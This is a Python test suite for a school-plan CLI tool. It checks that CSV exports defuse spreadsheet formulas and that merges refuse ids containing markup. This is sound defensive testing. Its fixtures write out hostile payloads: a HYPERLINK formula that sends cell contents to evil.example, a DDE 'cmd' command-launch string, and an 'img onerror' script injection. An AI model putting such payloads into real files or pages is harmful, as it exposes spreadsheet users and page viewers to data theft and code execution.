"""Exports carry other people's text (a progress file on a shared drive, a merged copy): no
spreadsheet formula, no control byte and no markup may ride along with it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

AS_OF = "2024-09-09"
HOSTILE_OWNER = '=HYPERLINK("http://evil.example","Click")'
HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Open report")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TITLES = ["=1+1 board item", "+1 call the SELPA", "@SUM(A1:A9)", "-2+3 review"]


@pytest.fixture
def hostile(cli) -> None:
    """A plan whose owner, notes and own activities' titles begin like formulas."""
    assert cli("init", "--lea", "Sample Unified", "--track", "new").exit_code == 0
    assert cli("assign", "prep-assurance", HOSTILE_OWNER).exit_code == 0
    assert cli("note", "prep-assurance", HOSTILE_NOTE).exit_code == 0
    assert cli("note", "step2-theory-of-action", "\t=cmd|' /C calc'!A0").exit_code == 0
    done = cli("done", "prep-virtual-meeting", "--on", "2024-04-02", "--note", "+1 all came")
    assert done.exit_code == 0, done.output
    for number, title in enumerate(HOSTILE_TITLES):
        added = cli("add", "--step", "step2", "--due", f"2024-10-0{number + 1}", "--", title)
        assert added.exit_code == 0, added.output


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet reads as a formula: all that begin like one but a plain number."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-\d+", cell)
    ]


def test_csv_cells_never_begin_like_a_formula(cli, hostile) -> None:
    result = cli("export", "csv", "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8-sig"))))
    assert formula_cells(rows) == []
    text = {cell for row in rows for cell in row}
    # The words are all there, behind the apostrophe a spreadsheet hides.
    assert "'" + HOSTILE_OWNER in text
    for title in HOSTILE_TITLES:
        assert "'" + title in text
    assert any(HOSTILE_NOTE in cell for cell in text)
    # Numbers stay numbers: days_left of an overdue activity is still -N, not text.
    header = rows[0]
    days_left = [row[header.index("days_left")] for row in rows[1:]]
    assert any(value.startswith("-") and value[1:].isdigit() for value in days_left)


def test_csv_written_to_a_file_and_read_by_a_spreadsheet_library(
    cli, hostile, tmp_path: Path
) -> None:
    import openpyxl

    target = tmp_path / "plan.csv"
    result = cli("export", "csv", "--as-of", AS_OF, "-o", str(target))
    assert result.exit_code == 0, result.output
    # Load the CSV into a workbook as a spreadsheet would (each cell's text as its value), then
    # ask the workbook which cells are formulas.
    book = openpyxl.Workbook()
    sheet = book.active
    with target.open(encoding="utf-8-sig", newline="") as handle:
        for row in csv.reader(handle):
            sheet.append(row)
    formulas = [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []


HOSTILE_ID = "x` <img src=x onerror=alert(7)> `y"


def hostile_copy(state_path: Path, target: Path) -> None:
    """A copy of the progress file whose own activity's id is markup, as a merged copy could
    bring it: quoted in the YAML part, inside JSON strings in the history."""
    lines = []
    for line in state_path.read_text(encoding="utf-8").splitlines():
        quoted = HOSTILE_ID if line.startswith("- {") else f'"{HOSTILE_ID}"'
        lines.append(line.replace("district-x", quoted))
    target.write_text("\n".join(lines) + "\n", encoding="utf-8")


def test_a_file_whose_id_is_not_cimsigs_is_refused_naming_the_line(
    cli, state_path: Path, tmp_path: Path
) -> None:
    assert cli("init", "--lea", "Sample Unified").exit_code == 0
    added = cli("add", "--step", "step2", "--due", "2024-10-20", "--id", "district-x", "Own")
    assert added.exit_code == 0, added.output
    assert cli("assign", "district-x", "Ann").exit_code == 0
    other = tmp_path / "copy.yaml"
    hostile_copy(state_path, other)
    before = state_path.read_bytes()

    merged = cli("merge", str(other))
    assert merged.exit_code == 3, merged.output
    assert str(other) in merged.stderr and "line " in merged.stderr
    assert "is not an id cimsig makes" in merged.stderr
    assert state_path.read_bytes() == before

    exported = cli("export", "md", "--state", str(other))
    assert exported.exit_code == 3
    assert "<img" not in exported.stdout
    line = int(re.search(r"line (\d+)", exported.stderr).group(1))
    assert "x` <img" in other.read_text(encoding="utf-8").splitlines()[line - 1]


def test_a_history_change_with_a_foreign_id_is_refused(cli, state_path: Path) -> None:
    assert cli("note", "prep-assurance", "Signed").exit_code == 0
    text = state_path.read_text(encoding="utf-8")
    history = text[text.index("history:") :]
    state_path.write_text(
        text.replace(history, history.replace('"id": "prep-assurance"', '"id": "a<b>"')),
        encoding="utf-8",
    )
    result = cli("undo")
    assert result.exit_code == 3, result.output
    assert "'a<b>', which is not an id cimsig makes" in result.stderr
